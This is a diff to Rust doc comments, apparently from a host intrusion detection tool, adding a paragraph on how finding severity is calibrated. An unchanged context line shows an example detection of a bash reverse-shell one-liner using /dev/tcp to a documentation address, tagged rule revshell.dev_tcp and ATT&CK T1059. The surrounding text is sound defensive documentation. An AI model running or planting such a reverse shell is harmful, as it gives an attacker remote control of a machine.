@@ -10,6 +10,10 @@
 //! **Example:** pid 5150 `sh -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`, rule
 //! `revshell.dev_tcp`.
 //!
+//! **Calibration:** role `activity`; critical or high only for evidence that an attacker acted,
+//! medium for what needs a look, low and info for context; a weakness rather than an act is
+//! marked `hardening` (docs/PRECISION.md).
+//!
 //! **ATT&CK:** T1059 (Command and Scripting Interpreter), with the technique of the rule that
 //! fired in the evidence.
 
